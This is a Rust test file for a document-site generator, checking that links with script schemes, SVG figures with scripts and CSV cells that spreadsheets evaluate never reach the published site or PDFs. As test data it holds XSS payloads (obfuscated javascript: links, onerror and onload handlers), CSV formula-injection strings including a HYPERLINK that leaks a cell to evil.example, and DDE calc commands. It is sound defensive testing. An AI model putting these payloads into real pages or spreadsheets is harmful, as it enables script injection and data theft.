//! Hostile sources: an editor's files must never put script into the site
//! or the PDFs. Links with refused schemes, SVG figures with script and CSV
//! cells that spreadsheets evaluate, each on the minimal project with an
//! overlay from `tests/fixtures/hostile/<case>/` (only the files that
//! differ); and a property test that throws random hostile Markdown and
//! YAML at load → site → PDF data.

use crate::fixture::{Project, copy_dir, repo, texts};
use scraper::{Html, Selector};
use std::path::Path;

const MINIMAL: &str = "build/minimal";

/// The minimal project with the overlay `tests/fixtures/hostile/<case>/`.
fn hostile(case: &str) -> Project {
    let p = Project::fixture(MINIMAL);
    copy_dir(&repo().join("tests/fixtures/hostile").join(case), p.path());
    p
}

fn errors(stderr: &str) -> Vec<&str> {
    stderr.lines().filter(|l| l.contains(": error: ")).collect()
}

// ---------------------------------------------------------------------------
// Item 2: one URL policy.

#[test]
fn links_with_refused_schemes_are_errors_at_their_place() {
    let p = hostile("links");
    let check = p.run(&["check", "--format", "short"]);
    assert_eq!(check.code, 1, "{}", check.stderr);
    let refused = |at: &str, link: &str, scheme: &str| {
        format!(
            "{at}: error: the link `{link}` uses the scheme `{scheme}:`, which konzept does not allow"
        )
    };
    let expected = [
        // The notice, in book.toml's own lines.
        refused(
            "book.toml:12:39",
            "JaVaScRiPt:alert(document.domain)",
            "javascript",
        ),
        // A summary in the front matter.
        refused(
            "content/02-ausblick.md:3:38",
            "vbscript:msgbox(1)",
            "vbscript",
        ),
        refused(
            "content/02-ausblick.md:10:10",
            "javascript:alert(1)",
            "javascript",
        ),
        // An entity, a tab and a space are read as a browser reads them.
        refused(
            "content/02-ausblick.md:10:39",
            "javascript:alert(2)",
            "javascript",
        ),
        refused(
            "content/02-ausblick.md:10:73",
            " java\\tscript:alert(3)",
            "javascript",
        ),
        refused(
            "content/02-ausblick.md:11:1",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==",
            "data",
        ),
        refused(
            "content/02-ausblick.md:11:72",
            "Kapitel:einleitung",
            "kapitel",
        ),
        // Markdown fields of records, at their line in the YAML file.
        refused(
            "data/empfehlungen.yaml:5:38",
            "javascript:alert(5)",
            "javascript",
        ),
        refused(
            "data/kommunen/suedheim.yaml:10:21",
            "JAVASCRIPT:alert(6)",
            "javascript",
        ),
        refused(
            "data/kommunen/suedheim.yaml:17:13",
            "javascript:alert(7)",
            "javascript",
        ),
    ];
    assert_eq!(errors(&check.stderr), expected, "\n{}", check.stderr);

    // `build` runs the same checks and writes nothing.
    let build = p.run(&["build", "--no-pdf", "--diagnostic-format", "short"]);
    assert_eq!(build.code, 1, "{}", build.stderr);
    assert_eq!(errors(&build.stderr), expected, "\n{}", build.stderr);
    assert!(!p.path().join("public").exists(), "nothing was written");

    // The long form says why and what to do.
    let long = p.run(&["check"]);
    assert!(
        long.stderr.contains(
            "= hint: `javascript:` links can run code or open local files in the reader's browser"
        ) && long
            .stderr
            .contains("= hint: links to records are written in lower case: `kapitel:…`"),
        "{}",
        long.stderr
    );
}

#[test]
fn harmless_and_explicitly_allowed_schemes_stay_links_on_the_site() {
    let p = hostile("links");
    // Without the hostile lines the overlay is harmless: web, mail, phone and
    // the calendar scheme book.toml allows.
    let ch = p.read("content/02-ausblick.md");
    let harmless: String = ch
        .lines()
        .filter(|l| !l.starts_with("Hostile") && !l.starts_with("[vier]"))
        .map(|l| format!("{l}\n"))
        .collect::<String>()
        .replace(", [kurz](vbscript:msgbox(1)) gesagt", "");
    p.write("content/02-ausblick.md", &harmless);
    std::fs::copy(
        repo().join("tests/fixtures/build/minimal/data/empfehlungen.yaml"),
        p.path().join("data/empfehlungen.yaml"),
    )
    .unwrap();
    std::fs::copy(
        repo().join("tests/fixtures/build/minimal/data/kommunen/suedheim.yaml"),
        p.path().join("data/kommunen/suedheim.yaml"),
    )
    .unwrap();
    let toml = p.read("book.toml").replace(
        "[Hinweis](JaVaScRiPt:alert(document.domain))",
        "[Hinweis](https://example.org/hinweis)",
    );
    p.write("book.toml", &toml);
    p.run(&["build", "--no-pdf"]).ok();
    let doc = crate::fixture::html(&p.path().join("public/kapitel/ausblick/index.html"));
    let hrefs: Vec<String> = doc
        .select(&Selector::parse("main .prose a[href]").unwrap())
        .map(|a| a.value().attr("href").unwrap().to_string())
        .collect();
    for want in [
        "https://example.org/a:b",
        "mailto:ki@example.org",
        "tel:+495241000",
        "webcal://example.org/termine.ics",
    ] {
        assert!(hrefs.iter().any(|h| h == want), "{want} missing: {hrefs:?}");
    }
    assert!(
        texts(&doc, ".notice a").contains(&"Hinweis".to_string()),
        "the notice keeps its web link"
    );

    // A scheme that runs code cannot be allowed, not even by book.toml.
    p.write(
        "book.toml",
        &toml.replace(
            "allowed_schemes = [\"webcal\"]",
            "allowed_schemes = [\"webcal\", \"JavaScript\"]",
        ),
    );
    let r = p.run(&["check", "--format", "short"]);
    assert_eq!(r.code, 1);
    assert_eq!(
        errors(&r.stderr),
        ["book.toml:19:1: error: the scheme `JavaScript` cannot be allowed"],
        "{}",
        r.stderr
    );
}

// ---------------------------------------------------------------------------
// Item 3: SVG figures.

/// Every element name, attribute and URL-like value of an SVG file that
/// could run or load something.
fn svg_dangers(svg: &str) -> Vec<String> {
    let doc = roxmltree::Document::parse(svg).expect("the published SVG parses");
    let mut found = Vec::new();
    for n in doc.descendants().filter(|n| n.is_element()) {
        let name = n.tag_name().name();
        if [
            "script",
            "foreignObject",
            "a",
            "iframe",
            "style",
            "use",
            "set",
            "animate",
        ]
        .contains(&name)
        {
            found.push(format!("<{name}>"));
        }
        for a in n.attributes() {
            let v = a.value().to_ascii_lowercase();
            if a.name().to_ascii_lowercase().starts_with("on") {
                found.push(format!("{}= on <{name}>", a.name()));
            }
            if a.name() == "href" && !(v.starts_with('#') || v.starts_with("data:image/")) {
                found.push(format!("href={v}"));
            }
            if v.contains("javascript") || v.contains("tracker.example") || v.contains("book.toml")
            {
                found.push(format!("{}={v}", a.name()));
            }
        }
    }
    found
}

#[test]
fn svg_figures_are_published_without_script_handlers_or_references() {
    let p = hostile("svg");
    // The hostile file still is a figure; nothing about it is an error.
    let r = p.run(&["build", "--no-pdf"]);
    r.ok();
    let svg = p.read("public/media/bilder/zeitleiste.svg");
    assert_eq!(svg_dangers(&svg), Vec::<String>::new(), "\n{svg}");
    assert!(!svg.contains("alert"), "{svg}");
    // The drawing, its text, its name and its description survive.
    let doc = roxmltree::Document::parse(&svg).unwrap();
    let root = doc.root_element();
    let child = |name: &str| {
        root.children()
            .find(|n| n.tag_name().name() == name)
            .and_then(|n| n.text())
    };
    assert_eq!(child("title"), Some("Zeitleiste"));
    assert_eq!(child("desc"), Some("Der Prozess von 2022 bis 2025"));
    assert_eq!(root.attribute("role"), Some("img"));
    assert_eq!(root.attribute("viewBox"), Some("0 0 200 40"));
    assert!(svg.contains("2022–2025"), "the text stays text: {svg}");
    assert!(
        svg.contains("#1f5f8b") || svg.contains("#1F5F8B"),
        "CSS colours apply: {svg}"
    );
    let page = crate::fixture::html(&p.path().join("public/kapitel/einleitung/index.html"));
    assert_eq!(
        page.select(&Selector::parse("figure img").unwrap())
            .next()
            .and_then(|i| i.value().attr("alt")),
        Some("Zeitleiste des Beteiligungsprozesses von 2022 bis 2025")
    );
}

#[test]
fn an_svg_usvg_cannot_read_is_an_error_at_the_image() {
    let p = Project::fixture(MINIMAL);
    p.write(
        "content/bilder/zeitleiste.svg",
        "<html><body><script>alert(1)</script></body></html>",
    );
    let r = p.run(&["check", "--format", "short"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert_eq!(
        errors(&r.stderr),
        [
            "content/01-einleitung.md:33:1: error: the SVG image `bilder/zeitleiste.svg` cannot be used: the file's root element is `<html>`, not `<svg>`"
        ],
        "{}",
        r.stderr
    );
}

// ---------------------------------------------------------------------------
// Item 9: CSV formula injection.

fn csv_column(p: &Project, file: &str, column: &str) -> Vec<String> {
    let mut r = csv::Reader::from_path(p.path().join("public/data").join(file)).unwrap();
    let at = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("{file} has no column {column}"));
    r.records()
        .map(|row| row.unwrap().get(at).unwrap().to_string())
        .collect()
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_get_an_apostrophe_and_json_stays_exact() {
    let p = hostile("csv");
    p.run(&["build", "--no-pdf"]).ok();
    let hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1;\"Klick\")";
    assert!(csv_column(&p, "empfehlungen.csv", "titel").contains(&format!("'{hyperlink}")));
    let titles = csv_column(&p, "massnahmen.csv", "titel");
    assert!(
        titles.contains(&"'+1+cmd|' /C calc'!A0".to_string()),
        "{titles:?}"
    );
    assert!(csv_column(&p, "massnahmen.csv", "zustaendig").contains(&"'-2+3".to_string()));
    assert!(csv_column(&p, "kommunen.csv", "quelle").contains(&"'\r=2+2".to_string()));
    let angebote = csv_column(&p, "angebote.csv", "traeger");
    assert!(
        angebote.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()),
        "{angebote:?}"
    );
    assert!(csv_column(&p, "angebote.csv", "kontakt").contains(&"'\t=1+1".to_string()));
    // Ordinary cells are untouched, ids with a hyphen inside too.
    assert!(csv_column(&p, "massnahmen.csv", "id").contains(&"M-002".to_string()));
    assert!(csv_column(&p, "massnahmen.csv", "von").contains(&"2025-03".to_string()));

    // JSON keeps the value as written.
    let json: serde_json::Value =
        serde_json::from_str(&p.read("public/data/empfehlungen.json")).unwrap();
    assert_eq!(json[0]["titel"], hyperlink);
    let json: serde_json::Value =
        serde_json::from_str(&p.read("public/data/massnahmen.json")).unwrap();
    assert_eq!(json[1]["zustaendig"], "-2+3");

    // The open-data page says so.
    let page = crate::fixture::html(&p.path().join("public/data/index.html"));
    let main = texts(&page, "main").join(" ");
    assert!(
        main.contains("Apostroph") && main.contains("JSON"),
        "{main}"
    );
}

// ---------------------------------------------------------------------------
// The property: random hostile text through load → site → PDF data.

mod property {
    use super::*;
    use proptest::prelude::*;

    /// Pieces an attacker would try, mixed with random text.
    fn hostile_text() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            Just("javascript:alert(1)".to_string()),
            Just("JaVaScRiPt:alert(1)".to_string()),
            Just("&#106;avascript:alert(1)".to_string()),
            Just("&#x6A;avascript&colon;alert(1)".to_string()),
            Just("vbscript:x".to_string()),
            Just("data:text/html,<script>alert(1)</script>".to_string()),
            Just("<script>alert(1)</script>".to_string()),
            Just("<img src=x onerror=alert(1)>".to_string()),
            Just(" onerror=alert(1) ".to_string()),
            Just("<svg onload=alert(1)>".to_string()),
            Just("<a href=\"javascript:alert(1)\">x</a>".to_string()),
            Just("<iframe src=\"javascript:alert(1)\"></iframe>".to_string()),
            Just("](".to_string()),
            Just("[x](".to_string()),
            Just("![i](".to_string()),
            Just(")".to_string()),
            Just("<".to_string()),
            Just(">".to_string()),
            Just("\"".to_string()),
            Just("'".to_string()),
            Just("`".to_string()),
            Just("\n".to_string()),
            Just("\n\n".to_string()),
            Just("    ".to_string()),
            Just("\t".to_string()),
            Just("# ".to_string()),
            Just("| a | b |\n|---|---|\n".to_string()),
            Just("[^1]".to_string()),
            Just("empfehlung:SB-1".to_string()),
            "[ -~]{0,16}",
            "\\PC{0,6}",
        ];
        prop::collection::vec(piece, 0..24).prop_map(|v| v.concat())
    }

    /// `s` as a YAML double-quoted scalar (JSON's escapes are YAML's).
    fn yaml(s: &str) -> String {
        serde_json::to_string(s).unwrap()
    }

    /// Replaces the first line starting with `key:` (after indentation).
    fn set_field(text: &str, key: &str, value: &str) -> String {
        let mut done = false;
        text.lines()
            .map(|l| {
                let trimmed = l.trim_start();
                if !done && trimmed.starts_with(&format!("{key}:")) {
                    done = true;
                    let indent = &l[..l.len() - trimmed.len()];
                    format!("{indent}{key}: {value}\n")
                } else {
                    format!("{l}\n")
                }
            })
            .collect()
    }

    /// What is wrong with one written HTML page.
    fn html_dangers(rel: &str, html: &str) -> Vec<String> {
        let doc = Html::parse_document(html);
        let mut found = Vec::new();
        for e in doc.select(&Selector::parse("*").unwrap()) {
            let v = e.value();
            for (name, value) in v.attrs() {
                if name.to_ascii_lowercase().starts_with("on") {
                    found.push(format!("{rel}: <{} {name}>", v.name()));
                }
                let url_attr = matches!(
                    name,
                    "href" | "src" | "action" | "formaction" | "poster" | "srcdoc" | "xlink:href"
                );
                if url_attr {
                    let scheme = konzept::url_policy::scheme(value);
                    if matches!(scheme.as_deref(), Some("javascript" | "vbscript" | "data")) {
                        found.push(format!("{rel}: <{} {name}={value:?}>", v.name()));
                    }
                }
            }
            if v.name() == "script" {
                // konzept's own scripts, linked relatively or (the 404 page)
                // through the absolute base_url: `…assets/<name>.js`.
                let own_src = v.attr("src").is_some_and(|s| {
                    let s = s.trim_start_matches("../");
                    let own = |s: &str| s.starts_with("assets/") || s.starts_with("pagefind/");
                    own(s)
                        || ["menu.js", "filter.js", "search.js"]
                            .iter()
                            .any(|n| s.ends_with(&format!("/assets/{n}")))
                });
                let text: String = e.text().collect();
                // Data, not code: JSON (schema.org JSON-LD included) with no
                // raw `<`, so no text in it can end the script element.
                let own_json = matches!(
                    v.attr("type"),
                    Some("application/json" | "application/ld+json")
                ) && !text.contains('<')
                    && serde_json::from_str::<serde_json::Value>(&text).is_ok();
                if !((own_src && text.trim().is_empty()) || own_json) {
                    found.push(format!("{rel}: a script that is not konzept's: {text:?}"));
                }
            }
        }
        found
    }

    /// Every link URL in a PDF's data.json must be a web link the policy allows.
    fn json_dangers(v: &serde_json::Value, found: &mut Vec<String>) {
        match v {
            serde_json::Value::Object(o) => {
                if o.get("t").and_then(|t| t.as_str()) == Some("link") {
                    let url = o.get("url").and_then(|u| u.as_str()).unwrap_or("");
                    let ok = konzept::url_policy::scheme(url)
                        .is_some_and(|s| konzept::url_policy::BUILT_IN.contains(&s.as_str()));
                    if !ok {
                        found.push(format!("data.json link {url:?}"));
                    }
                }
                for x in o.values() {
                    json_dangers(x, found);
                }
            }
            serde_json::Value::Array(a) => a.iter().for_each(|x| json_dangers(x, found)),
            _ => {}
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 8, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn hostile_markdown_and_yaml_never_become_script(
            body in hostile_text(),
            summary in hostile_text(),
            text in hostile_text(),
            name in hostile_text(),
            title in hostile_text(),
            notice in hostile_text(),
        ) {
            let p = Project::fixture(MINIMAL);
            let ch = p.read("content/02-ausblick.md");
            p.write("content/02-ausblick.md", &format!(
                "{}\n\n{body}\n",
                set_field(&ch, "summary", &yaml(&summary)).trim_end()
            ));
            let z = p.read("data/zielgruppen.yaml");
            p.write("data/zielgruppen.yaml", &set_field(&z, "beschreibung", &yaml(&text)));
            let k = p.read("data/kommunen/nordstadt.yaml");
            p.write("data/kommunen/nordstadt.yaml", &set_field(&k, "name", &yaml(&name)));
            let h = p.read("data/handlungsfelder.yaml");
            p.write("data/handlungsfelder.yaml", &set_field(&h, "titel", &yaml(&title)));
            // A JSON string is a TOML basic string too.
            let b: String = p.read("book.toml").lines().map(|l| if l.starts_with("notice =") {
                format!("notice = {}\n", yaml(&notice))
            } else {
                format!("{l}\n")
            }).collect();
            p.write("book.toml", &b);

            // Load with every check, but render even when they found errors:
            // the renderers must hold on their own.
            let (project, _) = konzept::findings::load(p.path(), konzept::findings::today::Day::system());
            let Some(project) = project else {
                // book.toml itself did not parse: nothing to render.
                return Ok(());
            };
            let out = p.path().join("site-out");
            std::fs::create_dir_all(&out).unwrap();
            // An error is fine (a missing image stops the copy, as the
            // checks would have); a panic or a hostile byte is not.
            let _ = render_site(&project, &out);

            let mut found = Vec::new();
            let canonical = out.canonicalize().unwrap();
            for entry in walkdir::WalkDir::new(&out) {
                let entry = entry.unwrap();
                let path = entry.path();
                prop_assert!(!entry.path_is_symlink(), "a symbolic link: {}", path.display());
                prop_assert!(
                    path.canonicalize().unwrap().starts_with(&canonical),
                    "written outside the output folder: {}", path.display()
                );
                let rel = path.strip_prefix(&out).unwrap().to_string_lossy().into_owned();
                if rel.ends_with(".html") {
                    found.extend(html_dangers(&rel, &std::fs::read_to_string(path).unwrap()));
                } else if rel.ends_with(".svg") {
                    found.extend(svg_dangers(&std::fs::read_to_string(path).unwrap()));
                }
            }
            // Nothing beside the project's files and the output folder.
            let mut top: Vec<String> = std::fs::read_dir(p.path()).unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            top.sort();
            prop_assert_eq!(top, ["book.toml", "content", "data", "site-out"]);

            // The PDFs' data, staged as typst would get it (typst does not run).
            let theme = konzept::theme::Theme::new(&project.root, &project.config.theme);
            let strings = konzept::strings::load(&project.config, &theme).unwrap();
            let work = tempfile::tempdir().unwrap();
            for kind in konzept::print::doc::DocKind::ALL {
                let doc = konzept::print::doc::build(&project, &strings, kind);
                json_dangers(&doc.json, &mut found);
                if let Ok(stage) = konzept::print::stage::Stage::new(work.path(), &doc, &theme, &project.root) {
                    for entry in walkdir::WalkDir::new(stage.path()) {
                        let entry = entry.unwrap();
                        if entry.path().extension().is_some_and(|e| e == "svg") {
                            found.extend(svg_dangers(&std::fs::read_to_string(entry.path()).unwrap()));
                        }
                    }
                }
            }
            prop_assert!(found.is_empty(), "{}", found.join("\n"));
        }
    }

    /// Every page of the site, the home page included, without the findings.
    fn render_site(project: &konzept::project::Project, out: &Path) -> Result<(), ()> {
        let r = konzept::site::Renderer::new(project).map_err(|_| ())?;
        let seen = konzept::findings::pages::Pages::default();
        let unfinished = konzept::site::build(project, &r, out, &seen).map_err(|_| ())?;
        unfinished
            .finish(project, &r, out, &[], &seen)
            .map_err(|_| ())?;
        Ok(())
    }

    #[test]
    fn the_generator_reaches_the_renderers() {
        // Guards the property against testing nothing: a hostile chapter
        // loads (with errors) and its page is written.
        let p = Project::fixture(MINIMAL);
        let ch = p.read("content/02-ausblick.md");
        p.write(
            "content/02-ausblick.md",
            &format!("{ch}\n[x](javascript:alert(1)) <script>alert(2)</script>\n"),
        );
        let (project, diags) =
            konzept::findings::load(p.path(), konzept::findings::today::Day::system());
        let project = project.unwrap();
        assert!(diags.has_errors());
        let out = p.path().join("site-out");
        render_site(&project, &out).unwrap_or_else(|_| panic!("the site renders"));
        let html = std::fs::read_to_string(out.join("kapitel/ausblick/index.html")).unwrap();
        assert!(html.contains(">x<") || html.contains("x "), "{html}");
        assert_eq!(html_dangers("ausblick", &html), Vec::<String>::new());
        assert!(Path::new(&out.join("index.html")).exists());
    }
}
